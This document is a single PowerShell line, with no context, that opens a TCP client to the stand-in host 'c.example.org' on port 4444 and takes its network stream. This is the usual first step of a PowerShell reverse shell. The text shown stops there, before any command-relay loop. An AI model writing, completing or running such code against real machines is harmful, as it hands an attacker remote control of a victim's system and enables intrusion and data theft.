$client = New-Object System.Net.Sockets.TCPClient("c.example.org", 4444); $stream = $client.GetStream()
